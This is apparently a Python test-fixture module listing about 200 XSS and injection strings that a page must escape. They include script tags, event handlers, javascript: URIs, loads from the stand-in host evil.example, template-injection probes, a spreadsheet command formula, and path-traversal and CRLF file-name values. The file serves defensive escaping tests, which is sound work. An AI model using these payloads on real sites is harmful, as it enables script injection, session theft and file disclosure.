"""Texts that would come to life on a page which forgets to escape them: 200, in the places where markup ends.

Each calls `alert` or asks a host for something; a page that shows one as text is well. `IRIS` are those of
them that can be part of an IRI, `NAMES` those that can be the name of a file, as a source repeats it.
"""

from __future__ import annotations

from typing import Final

CALL: Final = "alert(1)"
ELEMENTS: Final = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}'//",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<a href=javascript:{CALL}>click</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>send</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<math><mtext></mtext><script>{CALL}</script></math>",
    "<template><img src=//evil.example/x.png></template>",
    f"<marquee onstart={CALL}>",
)
# What ends the place that a text stands in, and what begins again behind it.
ENDS: Final = (
    ("", ""),
    ('"', ""),
    ("'>", ""),
    ('">', '<a b="'),
    ("</script>", "<script>"),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
)
OTHERS: Final = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    f'" onmouseover="{CALL}',
    f"' onfocus='{CALL}' autofocus='",
    f"` onerror=`{CALL}",
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= 7 * 7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "=cmd|'/c calc'!A1",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "x" * 5000,
    "<" * 2000,
    "\u0301" * 500,
)
PAYLOADS: Final = tuple(
    dict.fromkeys([f"{end}{element}{start}" for element in ELEMENTS for end, start in ENDS] + [*OTHERS])
)
IRIS: Final = (
    f"javascript:{CALL}",
    f"JAVASCRIPT:{CALL}//http://",
    "data:text/html,alert(1)",
    "vbscript:msgbox(1)",
    f"http://evil.example/'onmouseover='{CALL}",
    f"http://evil.example/?x='-{CALL}-'",
    f"https://w3id.org/osagraph/id/'onfocus='{CALL}",
    f"https://w3id.org/osagraph/id/../../{CALL}",
    f"https://w3id.org/osagraph/id//evil.example/{CALL}",
    f"https://w3id.org/osagraph/ontology#{CALL}",
    "http://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "http://evil.example/{{7*7}}".replace("{", "(").replace("}", ")"),
)
NAMES: Final = (
    f"'onfocus='{CALL}",
    f"x');{CALL};('",
    f"javascript:{CALL}",
    "..%2F..%2Fetc%2Fpasswd",
    "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "a%0D%0Acontent-type:text%2Fhtml%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%E2%80%AE%3Csvg%20onload=alert(1)%3E",
    "x;filename=alert(1).html",
    "__proto__",
)
